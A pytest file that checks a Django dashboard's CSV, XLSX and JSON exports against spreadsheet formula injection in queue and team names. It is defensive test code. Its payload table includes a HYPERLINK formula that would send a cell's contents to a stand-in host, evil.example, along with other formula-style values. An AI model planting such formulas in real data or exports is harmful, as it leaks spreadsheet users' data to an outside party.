"""Issue 11, point 8: formula injection in exports. A queue or team name an outside source sent must
never run as a formula when an export is opened in a spreadsheet: CSV cells that begin like a formula are
quoted (OWASP), XLSX cells are text cells (no ``<f>`` element), JSON carries the name as it is; a
control character in a name never makes the XLSX fail."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from dashboard.core.periods import day_bounds
from dashboard.core.spreadsheet import csv_cell, csv_cells, xlsx_text
from dashboard.intervals.services import intervals_aggregate
from dashboard.wfm.models import ForecastInterval, IntervalExport
from dashboard.wfm.selectors import ExportQuery
from dashboard.wfm.services.export import interval_export_create, interval_export_run
from tests.factories import QueueFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db
TZ = ZoneInfo("Europe/Amsterdam")
DAY = date(2026, 11, 24)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# name → (as the CSV cell reads, as the XLSX text cell reads); JSON always carries the name as it is.
PAYLOADS = {
    "hyperlink": (HYPERLINK, "'" + HYPERLINK, HYPERLINK),
    "equals": ("=1+1", "'=1+1", "=1+1"),
    "at_sum": ("@SUM(1,1)", "'@SUM(1,1)", "@SUM(1,1)"),
    "plus": ("+1+1", "'+1+1", "+1+1"),
    "minus": ("-2+3", "'-2+3", "-2+3"),
    "tab_leading": ("\t=1+1", "'\t=1+1", "\t=1+1"),
    "cr_leading": ("\r=1+1", "'\r=1+1", "\r=1+1"),
    "control_character": ("Queue\x07bell\x1b", "Queue\x07bell\x1b", "Queue\ufffdbell\ufffd"),
    "plain": ("Algemeen", "Algemeen", "Algemeen"),
}
TEAM = "@SUM(2,2)"


@pytest.fixture(autouse=True)
def _export_dir(settings, tmp_path):
    settings.WFM_EXPORT_DIR = str(tmp_path / "exports")


@pytest.fixture
def evil_queues():
    team = TeamFactory(name=TEAM)
    queues = [QueueFactory(name=name, team=team) for name, _, _ in PAYLOADS.values()]
    start, end = day_bounds(DAY)
    intervals_aggregate(start=start, end=end)
    nine = datetime.combine(DAY, time(9), TZ)
    for queue in queues:
        ForecastInterval.objects.create(queue=queue, start=nine, offered=10, aht_s=180, source="imported")
    return queues


def _client():
    client = APIClient()
    client.force_login(UserFactory(role="wfm"))
    return client


def _body(response) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content)


def _csv_cells(body: bytes, column: str) -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(body.decode(), newline=""))}


def _xlsx_cells(body: bytes, column: str) -> dict[str, str]:
    """The column's cells: value → data type; and no formula anywhere in the sheet's XML."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    ws = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in ws[1]]
    index = header.index(column)
    return {row[index].value: row[index].data_type for row in ws.iter_rows(min_row=2)}


EXPORTS = {
    "intervals": ("/api/v1/intervals/", {"start": DAY.isoformat(), "end": DAY.isoformat()}),
    "forecast": ("/api/v1/wfm/forecast/export/", {"start": DAY.isoformat(), "end": DAY.isoformat()}),
}


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_csv_export_quotes_cells_that_begin_like_a_formula(evil_queues, payload):
    url, params = EXPORTS["intervals"]
    name, in_csv, _ = PAYLOADS[payload]
    body = _body(_client().get(url, {**params, "format": "csv"}))
    queues = _csv_cells(body, "queue")
    assert in_csv in queues
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in queues)
    assert _csv_cells(body, "team") == {"'" + TEAM}


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_xlsx_export_writes_names_as_text_never_as_formulas(evil_queues, payload):
    url, params = EXPORTS["intervals"]
    name, _, in_xlsx = PAYLOADS[payload]
    body = _body(_client().get(url, {**params, "format": "xlsx"}))
    queues = _xlsx_cells(body, "queue")
    assert queues[in_xlsx] == "s"
    assert _xlsx_cells(body, "team") == {TEAM: "s"}
    # Figures stay numbers.
    assert set(_xlsx_cells(body, "length_min").values()) == {"n"}


def test_json_export_carries_every_name_as_it_is(evil_queues):
    url, params = EXPORTS["intervals"]
    rows = json.loads(_body(_client().get(url, {**params, "format": "json"})))
    for name, _, _ in PAYLOADS.values():
        mine = [r for r in rows if r["queue"] == name]
        assert len(mine) == 96 and {r["team"] for r in mine} == {TEAM}, name


def test_forecast_export_is_escaped_in_csv_and_text_in_xlsx(evil_queues):
    url, params = EXPORTS["forecast"]
    client = _client()
    csv_body = _body(client.get(url, {**params, "format": "csv"}))
    assert _csv_cells(csv_body, "queue") == {in_csv for _, in_csv, _ in PAYLOADS.values()}
    cells = _xlsx_cells(_body(client.get(url, {**params, "format": "xlsx"})), "queue")
    assert cells == {in_xlsx: "s" for _, _, in_xlsx in PAYLOADS.values()}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_background_export_file_is_escaped_too(evil_queues, fmt):
    user = UserFactory(role="wfm")
    client = APIClient()
    client.force_login(user)
    query = ExportQuery(first_day=DAY, last_day=DAY)
    export = interval_export_create(user=user, query=query, fmt=fmt)
    assert interval_export_run(export_id=str(export.id)).status == IntervalExport.Status.DONE
    body = _body(client.get(f"/api/v1/intervals/exports/{export.id}/file/"))
    if fmt == "csv":
        assert {in_csv for _, in_csv, _ in PAYLOADS.values()} <= _csv_cells(body, "queue")
    else:
        cells = _xlsx_cells(body, "queue")
        assert {in_xlsx for _, _, in_xlsx in PAYLOADS.values()} <= cells.keys()
        assert set(cells.values()) == {"s"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (" =1", " =1"),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
        (None, None),
    ],
)
def test_csv_cell_rule(value, cell):
    assert csv_cell(value) == cell
    assert csv_cells([value, value]) == [cell, cell]  # the row-at-a-time form the exports use


@pytest.mark.parametrize(
    ("value", "text"),
    [("a\x00b", "a\ufffdb"), ("\x1f", "\ufffd"), ("tab\tnl\ncr\r", "tab\tnl\ncr\r"), ("é€", "é€")],
)
def test_xlsx_text_rule(value, text):
    assert xlsx_text(value) == text


def test_names_keep_their_rows_over_the_day(evil_queues):
    """The escape changes cells only: every queue still has its 96 quarter-hours in the CSV."""
    url, params = EXPORTS["intervals"]
    body = _body(_client().get(url, {**params, "format": "csv"}))
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert len(rows) == 96 * len(PAYLOADS)
